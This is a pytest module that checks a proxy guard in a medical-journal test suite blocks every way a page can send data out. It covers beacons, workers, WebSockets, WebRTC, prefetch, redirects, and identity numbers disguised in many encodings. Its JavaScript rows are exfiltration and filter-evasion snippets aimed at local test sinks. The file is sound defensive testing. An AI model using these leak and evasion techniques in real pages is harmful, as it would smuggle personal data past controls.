"""The wire guard against every way out a page has: a real Chromium, the suite's proxy.

Each row of the table is something a journal's page could send on its own, found
getting through when the guard sat in Playwright's routing and an intent window:
beacons and keepalive fetches on ``pagehide``, SharedWorkers, a Worker's
WebSocket, WebRTC, speculative prefetch, redirect hops, a POST sent again after a
307, numbers learned from another origin, and identity numbers in every
encoding a page could choose. Each is driven through a browser launched and
routed exactly as the suite launches it on a live target, against the
standalone stub (which breaks ``cancel-saves``: its Avbryt posts to Spara's
address), and must be stopped by the proxy and never received: the stub's
request log, an HTTPS sink on another origin, a WebSocket echo server and UDP
and TCP listeners say what reached them. The controls show that the same kind
of request does arrive when the rules allow it, so "never received" is not a
blind check.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import (
    Browser,
    BrowserContext,
    BrowserType,
    Error,
    Page,
    expect,
    sync_playwright,
)

from mvj_suite.core.chromium import SYSTEM_CHROMIUM_ARGS, system_chromium
from mvj_suite.live.live_wire import close_webrtc
from mvj_suite.live.wire_proxy import CLOSED_PATHS, CardFile, WireProxy
from mvj_suite.live.wire_rules import WireGuard, guard_for
from mvj_suite.model.declared_reads import DeclaredReads
from mvj_suite.model.intent import WRITE
from mvj_suite.model.profile import load_profile
from mvj_suite.model.profile_people import number_from
from mvj_suite.model.testdata import Customer, TestData
from pages.login import LoginPage
from pages.shell import AppShell
from steps.flows import fill, open_add_dialog

from .sinks import Sink, TcpListener, UdpListener
from .standalone import data_dir, request_log, standalone_stub
from .stub_profile import PROFILE, stub_card_env
from .ws_echo import EchoServer

# On one worker, one after another: the module's browser, stub and proxy are set up once.
pytestmark = pytest.mark.xdist_group("skyddet-pa-traden")

STRANGER = "19640823-3234"  # a valid number in no profile: "a random real person"
DIGITS = "196408233234"
NUMBER = "nummer som inte finns i testdataprofilen"  # the reason for a stranger's number
WRITE_STOP = "Skrivskyddet stoppade"
OTHER_PROTOCOL = "varken är HTTP eller WebSocket"
WAIT_S = 15.0  # for what a page sends on its own: it arrives when it arrives


@dataclass
class Wire:
    browser: Browser
    context: BrowserContext
    page: Page
    proxy: WireProxy
    guard: WireGuard
    declared: DeclaredReads
    ready: dict
    sink: Sink
    echo: EchoServer
    udp: UdpListener
    tcp: TcpListener

    @property
    def url(self) -> str:
        return str(self.ready["url"])

    def received(self) -> str:
        return "\n".join((request_log(self.ready), self.sink.seen(), self.echo.seen()))

    def new_guard(self, allow_writes: bool = False, name: str = "prov") -> WireGuard:
        return guard_for(load_stub_numbers(self.ready), allow_writes, self.url, self.declared,
                         name)  # fmt: skip

    def test_page(self, context: BrowserContext | None = None) -> Page:
        """A page of the journal's origin without the stub's Content-Security-Policy
        (which stops some of the rows in the browser already): a real journal's page
        may have none, and the guard must hold without it."""
        page = (context or self.context).new_page()
        page.set_default_timeout(10_000)
        pattern = f"{self.url}/provsida*"
        page.route(pattern, lambda route: route.fulfill(
            body="<!DOCTYPE html><title>prov</title><p>prov</p>", content_type="text/html"))
        page.goto("/provsida")
        # Routing off again: Playwright's interception must not stand between the page
        # and the proxy (it is what used to miss, and hold back, these requests).
        page.unroute(pattern)
        return page


def load_stub_numbers(ready: dict) -> frozenset[str]:
    return load_profile(PROFILE, env=stub_card_env(ready)).numbers


def _launch(chromium: BrowserType, proxy: WireProxy, closed_paths: bool = True) -> Browser:
    """Chromium as the suite launches it on live (headless: the headless shell, as
    Playwright itself runs it); without ``closed_paths`` only for the control."""
    executable = system_chromium(headless=True)
    base = {"executable_path": executable, "args": SYSTEM_CHROMIUM_ARGS} if executable else {}
    options = proxy.launch_options(base)
    if not closed_paths:
        options["args"] = [arg for arg in options["args"] if arg not in CLOSED_PATHS]
    return chromium.launch(**options)


@pytest.fixture(scope="module")
def wire(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Wire]:
    with standalone_stub(tmp_path_factory.mktemp("stubb"), breaks=("cancel-saves",)) as ready:
        pki = data_dir(ready) / "pki"
        sink = Sink(pki / "server.pem", pki / "server.nyckel.pem", ready["url"], STRANGER)
        echo = EchoServer(pki / "server.pem", pki / "server.nyckel.pem")
        udp, tcp = UdpListener(), TcpListener()
        profile = load_profile(PROFILE, env=stub_card_env(ready))
        # Beside the stub profile's reads: a read on another origin, and one to test with.
        declared = DeclaredReads(profile.declared_reads.entries + DeclaredReads.parse(
            [f"POST {sink.url}/prov/307", "POST /prov/lasande"]).entries)  # fmt: skip
        cards = {key: CardFile(Path(card["path"]), ready["passphrase"])
                 for key, card in ready["cards"].items()}  # fmt: skip
        idle = guard_for(profile.numbers, False, ready["url"], declared)
        proxy = WireProxy.for_process(ready["url"], Path(ready["ca_cert"]), cards, idle)
        guard = guard_for(profile.numbers, False, ready["url"], declared, "prov")
        proxy.watch(guard)
        try:
            with sync_playwright() as playwright:
                browser = _launch(playwright.chromium, proxy)
                context = browser.new_context(base_url=ready["url"],
                                              **proxy.context_options("sjukskoterska"))
                page = context.new_page()
                page.set_default_timeout(10_000)
                card = ready["cards"]["sjukskoterska"]
                LoginPage.open(page).log_in().expect_logged_in_as(card["name"], card["hsa_id"])
                assert guard.failure() is None, guard.failure()
                wire = Wire(browser, context, page, proxy, guard, declared, ready, sink, echo,
                            udp, tcp)  # fmt: skip
                wire.page = wire.test_page()
                yield wire
                browser.close()
        finally:
            WireProxy.stop_process_proxy()
            for closing in (sink, echo, udp, tcp):
                closing.close()


# --- the table ---------------------------------------------------------------------------
# (row, what stops it, the page's script). The script gets {path, sink, ws, udp, tcp}: a
# path unique to the row, the sink's origin, the WebSocket server, the UDP and TCP ports.
def fetch(arguments: str) -> str:
    return "async (u) => { await fetch(" + arguments + ").catch(() => {}); }"


LEAVE = "(lämnar sidan)"  # the test then goes to another page, and pagehide fires


def on_leaving(send: str) -> str:
    """Send ``send`` (JS) on pagehide: when the page is left."""
    return "(u) => { addEventListener('pagehide', () => { " + send + " }); }" + LEAVE


SHARED_WORKER = (
    "(u) => { const code = `onconnect = () => { fetch(self.location.origin + '${u.path}', "
    "{method: 'POST', body: 'nummer=" + STRANGER + "'}).catch(() => {}); };`; "
    "const w = new SharedWorker(URL.createObjectURL(new Blob([code], "
    "{type: 'text/javascript'}))); w.port.start(); }"
)
WORKER_WEBSOCKET = (
    "(u) => { const code = `const s = new WebSocket('${u.ws}${u.path}'); "
    "s.onopen = () => s.send('radera allt');`; "
    "new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'}))); }"
)
UTF16_BODY = (
    "async (u) => { const text = 'q=" + STRANGER + "'; const bytes = new Uint16Array("
    "text.length); for (let i = 0; i < text.length; i++) { bytes[i] = text.charCodeAt(i); } "
    "await fetch(u.path, {method: 'POST', headers: {'Content-Type': "
    "'text/plain;charset=utf-16le'}, body: bytes}).catch(() => {}); }"
)
SPECULATION = (
    "(u) => { const s = document.createElement('script'); s.type = 'speculationrules'; "
    "s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [u.path + '-prefetch?q="
    + STRANGER + "']}], prerender: [{source: 'list', urls: [u.path + '-prerender?q="
    + STRANGER + "']}]}); document.head.appendChild(s); }"
)
LEARNED_ELSEWHERE = (
    "async (u) => { const n = await (await fetch(u.sink + '/prov/lar')).text(); "
    "await fetch(u.path + '?q=' + encodeURIComponent(n)).catch(() => {}); }"
)

ROWS = [
    # What a page sends as it is left, and from workers: read-only, a write by no one.
    ("beacon-vid-pagehide", WRITE_STOP,
     on_leaving("navigator.sendBeacon(u.path, 'nummer=foo');")),
    ("beacon-med-okant-nummer", NUMBER,
     on_leaving(f"navigator.sendBeacon(u.path, 'nummer={STRANGER}');")),
    ("keepalive-delete-vid-pagehide", WRITE_STOP,
     on_leaving("fetch(u.path, {method: 'DELETE', keepalive: true});")),
    ("sharedworker-post-med-nummer", NUMBER, SHARED_WORKER),
    ("websocket-i-en-worker", WRITE_STOP, WORKER_WEBSOCKET),
    ("delete-utan-kropp", WRITE_STOP, fetch("u.path, {method: 'DELETE'}")),
    ("post-utan-kropp", WRITE_STOP, fetch("u.path, {method: 'POST'}")),
    ("get-med-method-override", WRITE_STOP,
     fetch("u.path, {headers: {'X-HTTP-Method-Override': 'DELETE'}}")),
    ("post-till-annan-origin", WRITE_STOP,
     fetch("u.sink + u.path, {method: 'POST', mode: 'no-cors', body: 'x=1'}")),
    # Redirects: every hop is judged when it arrives.
    ("post-som-skickas-igen-efter-307", WRITE_STOP,
     fetch("u.sink + '/prov/307', {method: 'POST', mode: 'no-cors', body: 'x=1'}")),
    ("omdirigering-som-lagger-till-nummer", NUMBER, fetch("u.sink + '/prov/hop', "
                                                        "{mode: 'no-cors'}")),
    ("nummer-lart-av-annan-origin", NUMBER, LEARNED_ELSEWHERE),
    ("spekulativ-hamtning-med-nummer", NUMBER, SPECULATION),
    ("nummer-i-vardnamnet", NUMBER,
     fetch(f"'https://p{DIGITS}.invalid/' + u.path, {{mode: 'no-cors'}}")),
    # Every encoding of a number.
    ("nummer-med-bokstav-framfor", NUMBER, fetch(f"u.path + '?q=P{DIGITS}'")),
    ("nummer-delat-pa-tva-rubriker", NUMBER,
     fetch("u.path, {headers: {'X-Del-A': '19640823', 'X-Del-B': '3234'}}")),
    ("nummer-i-utf16-kropp", NUMBER, UTF16_BODY),
    ("nummer-dubbelt-procentkodat", NUMBER, fetch("u.path + '?q=19640823%252D3234'")),
    ("nummer-med-punkter", NUMBER, fetch("u.path + '?q=1964.08.23-3234'")),
    ("nummer-med-snedstreck-i-sokvagen", NUMBER, fetch("u.path + '/19640823/3234'")),
    ("nummer-med-understreck", NUMBER, fetch("u.path + '?q=640823_3234'")),
    ("nummer-med-dubbla-bindestreck", NUMBER, fetch("u.path + '?q=19640823--3234'")),
    ("nummer-med-nollbredd", NUMBER, fetch("u.path + '?q=' + encodeURIComponent("
                                           "'1964082\\u200b3-3234')")),
    ("nummer-som-html-entitet", NUMBER,
     fetch("u.path, {method: 'POST', headers: {'Content-Type': "
           "'application/x-www-form-urlencoded'}, body: 'q=' + encodeURIComponent("
           "'&#49;9640823-3234')}")),
    ("nummer-i-en-kaka-fran-skript", NUMBER,
     f"async (u) => {{ document.cookie = 'senaste={STRANGER}; path=/'; "
     "await fetch(u.path).catch(() => {}); "
     "document.cookie = 'senaste=; path=/; max-age=0'; }"),
    ("nummer-i-json-med-escape", NUMBER,
     fetch("u.path, {method: 'POST', headers: {'Content-Type': 'application/json'}, "
           r"body: '{\"q\": \"\\u0031\\u0039640823-3234\"}'}")),
]  # fmt: skip


def _arguments(wire: Wire, row: str) -> dict[str, Any]:
    return {"path": f"/prov/{row}", "sink": wire.sink.url, "ws": wire.echo.url,
            "udp": wire.udp.port, "tcp": wire.tcp.port}  # fmt: skip


def _send(wire: Wire, page: Page, script: str, row: str, stops: int = 1) -> str:
    """Let ``page`` run the row's script; wait for the guard's stop(s); their reasons."""
    before = len(wire.guard.violations)
    page.evaluate(script.removesuffix(LEAVE), _arguments(wire, row))
    if script.endswith(LEAVE):
        page.goto("about:blank")
    assert wire.guard.wait_for_stops(before + stops, WAIT_S), f"{row}: inget stoppades"
    return " | ".join(wire.guard.violations[before:])


@pytest.mark.parametrize(("row", "stopped_by", "script"), ROWS, ids=[r[0] for r in ROWS])
def test_every_way_out_is_stopped_and_never_received(
    wire: Wire, row: str, stopped_by: str, script: str
) -> None:
    page = wire.test_page()
    reasons = _send(wire, page, script, row)
    page.close()
    assert stopped_by in reasons, reasons
    assert DIGITS not in reasons and STRANGER not in reasons  # never in a report
    received = wire.received()
    if "websocket" in row:  # the connection carries no number: the message is what counts
        assert "MESSAGE" not in received.split(f"CONNECT /prov/{row}", 1)[-1], f"{row} nådde fram"
    else:
        assert f"/prov/{row}" not in received, f"{row} nådde fram"
    assert "/prov/307-mal" not in received and "/prov/hop-mal" not in received


def test_what_a_page_sends_as_it_is_closed_is_stopped(wire: Wire) -> None:
    """The suite closes every page at teardown: a page's last words are judged too."""
    page = wire.test_page()
    page.evaluate("(u) => addEventListener('pagehide', () => { navigator.sendBeacon(u.path, "
                  "'x'); fetch(u.path + '-keepalive', {method: 'POST', keepalive: true}); })",
                  _arguments(wire, "vid-stangning"))  # fmt: skip
    before = len(wire.guard.violations)
    page.close()
    assert wire.guard.wait_for_stops(before + 2, WAIT_S)
    assert "/prov/vid-stangning" not in wire.received()


def test_a_write_sent_later_by_a_timer_is_judged_when_it_arrives(wire: Wire) -> None:
    """Sent 200 ms after the suite's action, by the page: judged as it arrives, not when
    Python next asks Playwright for something."""
    page = wire.test_page()
    before = len(wire.guard.violations)
    page.evaluate("(u) => setTimeout(() => fetch(u.path, {method: 'POST', body: 'x'}), 200)",
                  _arguments(wire, "timer"))  # fmt: skip
    assert wire.guard.wait_for_stops(before + 1, WAIT_S)
    page.close()
    assert "/prov/timer" not in wire.received()


def test_webrtc_sends_nothing_past_the_proxy(wire: Wire) -> None:
    """TURN with the number as user name, over UDP and over TCP: nothing arrives (UDP is
    closed outside the proxy; the proxy refuses a tunnel that is not HTTP)."""
    page = wire.test_page()
    page.evaluate(_WEBRTC, {**_arguments(wire, "webrtc"), "user": DIGITS})
    page.close()
    assert wire.udp.datagrams == []
    assert wire.tcp.connections == []


_WEBRTC = (
    "async (u) => { const pc = new RTCPeerConnection({iceServers: ["
    "{urls: `turn:127.0.0.1:${u.udp}?transport=udp`, username: u.user, credential: 'x'},"
    "{urls: `turn:127.0.0.1:${u.tcp}?transport=tcp`, username: u.user, credential: 'x'},"
    "{urls: `stun:127.0.0.1:${u.udp}`}]}); pc.createDataChannel('x');"
    "await pc.setLocalDescription(await pc.createOffer());"
    "await new Promise((done) => { if (pc.iceGatheringState === 'complete') { done(); }"
    "pc.onicegatheringstatechange = () => { if (pc.iceGatheringState === 'complete') "
    "{ done(); } }; setTimeout(done, 8000); }); pc.close(); }"
)


def test_webrtc_is_closed_in_the_full_chromium_too(wire: Wire) -> None:
    """--headed runs the full Chromium, which ignores the UDP policy flag: there no page
    gets a peer connection at all (the suite's init script, in every frame)."""
    executable = system_chromium(headless=False)
    full = {"executable_path": executable, "args": SYSTEM_CHROMIUM_ARGS} if executable else {
        "channel": "chromium"}
    browser = wire.browser.browser_type.launch(**wire.proxy.launch_options(full))
    context = browser.new_context(base_url=wire.url, **wire.proxy.context_options(None))
    close_webrtc(context)
    page = wire.test_page(context)
    for script in (_WEBRTC, _WEBRTC.replace("new RTCPeerConnection", "new (document.body."
                                            "appendChild(document.createElement('iframe'))."
                                            "contentWindow.RTCPeerConnection)")):
        with pytest.raises(Error, match="RTCPeerConnection is not a constructor"):
            page.evaluate(script, {**_arguments(wire, "webrtc-full"), "user": DIGITS})
    browser.close()
    assert wire.udp.datagrams == [] and wire.tcp.connections == []


def test_control_webrtc_reaches_the_listener_without_the_closed_paths(wire: Wire) -> None:
    """The same peer connection from a browser launched without the suite's closed paths
    does send its STUN/TURN datagrams: the check above can fail."""
    browser = _launch(wire.browser.browser_type, wire.proxy, closed_paths=False)
    page = browser.new_page()
    page.set_content("<title>kontroll</title>")
    page.evaluate(_WEBRTC, {**_arguments(wire, "kontroll"), "user": "kontroll"})
    browser.close()
    assert wire.udp.datagrams, "ingen WebRTC-trafik alls – kontrollen säger inget"
    wire.udp.datagrams.clear()


def test_avbryt_that_posts_to_spara_is_stopped_and_saves_nothing(wire: Wire) -> None:
    """The stub breaks cancel-saves: its Avbryt posts what was typed to Spara's address.
    Read-only, the guard stops the POST whatever the step or the page object calls it."""
    page = wire.context.new_page()  # logged in, with the stub's own pages
    page.set_default_timeout(10_000)
    page.goto("/sok")
    customer = _new_customer(wire.ready)
    saves = request_log(wire.ready).count("POST /kunder/ny ")
    dialog = open_add_dialog(page, customer)
    fill(dialog, customer.details)
    before = len(wire.guard.violations)
    with page.expect_event("requestfailed"):
        dialog.cancel_button.click()
    assert WRITE_STOP in " | ".join(wire.guard.violations[before:])
    assert request_log(wire.ready).count("POST /kunder/ny ") == saves
    # The stopped form post leaves Chromium's error page behind; then back to the journal.
    expect(page).to_have_url(re.compile(r"^chrome-error://"))
    page.goto("/sok")
    AppShell(page).open_search().search(customer.number.twelve("-")).expect_offer_to_add()
    page.close()


def test_controls_reach_the_journal(wire: Wire) -> None:
    """A declared read passes at any time and a GET passes: the guard is not a wall."""
    page = wire.test_page()
    before = len(wire.guard.violations)
    for row, script in (("lasande", fetch("u.path, {method: 'POST', body: 'q=1'}")),
                        ("kontroll-get", fetch("u.path")),
                        ("kontroll-websocket", "(u) => new Promise((done) => { const s = new "
                         "WebSocket(u.ws + u.path); s.onopen = () => s.close(); "
                         "s.onclose = done; })")):  # fmt: skip
        page.evaluate(script, _arguments(wire, row))
    page.close()
    assert wire.guard.violations[before:] == []
    received = wire.received()
    assert "POST /prov/lasande" in received
    assert "GET /prov/kontroll-get" in received
    assert "CONNECT /prov/kontroll-websocket" in received


def test_with_allow_writes_a_write_passes_only_while_a_writing_step_saves(wire: Wire) -> None:
    writer = wire.new_guard(allow_writes=True, name="skrivande")
    wire.proxy.watch(writer)
    context = wire.browser.new_context(base_url=wire.url,
                                       **wire.proxy.context_options("sjukskoterska"))
    try:
        page = wire.test_page(context)
        arguments = _arguments(wire, "skrivning-i-fonstret")
        send = "(u) => fetch(u.path, {method: 'POST', body: 'x'}).then(() => 1, () => 0)"
        assert page.evaluate(send, {**arguments, "path": "/prov/skrivning-utanfor"}) == 0
        writer.begin_step(WRITE)  # as mvj_suite.live.guard_hooks and a page object's Spara say
        writer.action_started(WRITE)
        assert page.evaluate(send, arguments) == 1
        writer.action_ended(WRITE)
        writer.end_step()
        received = wire.received()
        assert "POST /prov/skrivning-i-fonstret" in received
        assert "/prov/skrivning-utanfor" not in received
        # Outside the window again (the suite acts on), and at teardown: stopped.
        writer.action_started("read")
        assert page.evaluate(send, {**arguments, "path": "/prov/efter-fonstret"}) == 0
        page.evaluate("(u) => addEventListener('pagehide', () => navigator.sendBeacon("
                      "'/prov/skrivande-stangning', 'x'))", arguments)  # fmt: skip
        writer.settle()
        page.close()
        context.close()
    finally:
        wire.proxy.release(writer)
        wire.proxy.watch(wire.guard)
    assert len(writer.violations) == 3, writer.violations
    assert "efter-fonstret" not in wire.received()
    assert "skrivande-stangning" not in wire.received()


def test_what_arrives_after_a_scenario_or_outside_every_scenario_fails_the_run(
    wire: Wire,
) -> None:
    ended = wire.new_guard(name="Ett scenario som var slut")
    wire.proxy.watch(ended)
    context = wire.browser.new_context(base_url=wire.url,
                                       **wire.proxy.context_options("sjukskoterska"))
    page = wire.test_page(context)
    # The scenario ends with its page still open (a fault in the suite, or a tester's
    # browser): what the page sends later is judged as after that scenario.
    wire.proxy.release(ended, timeout=0.1)
    before = len(wire.proxy.run_failures())
    page.evaluate(fetch("u.path, {method: 'POST', body: 'x'}"), _arguments(wire, "sent"))
    context.close()
    # And a browser context opened while no scenario runs belongs to none.
    outside = wire.browser.new_context(base_url=wire.url,
                                       **wire.proxy.context_options("sjukskoterska"))
    stray = outside.new_page()
    stray.goto("/")
    stray.evaluate(fetch("u.path, {method: 'DELETE'}"), _arguments(wire, "utanfor"))
    outside.close()
    wire.proxy.watch(wire.guard)
    # Neither can be placed in a running scenario: both fail the run (the first on a
    # connection of its own, opened after its scenario had ended).
    failures = " | ".join(wire.proxy.run_failures()[before:])
    assert "POST https" in failures and "DELETE https" in failures, failures
    received = wire.received()
    assert "/prov/sent" not in received and "/prov/utanfor" not in received
    wire.proxy.idle_guard.violations.clear()
    wire.proxy._late.clear()


def _new_customer(ready: dict) -> Customer:
    """Someone from the profile's pool of numbers in neither the journal nor PU."""
    person = load_profile(PROFILE, env=stub_card_env(ready)).not_in_pu[-1]
    return TestData(seed=3).customer_with_number(number_from(person.number))
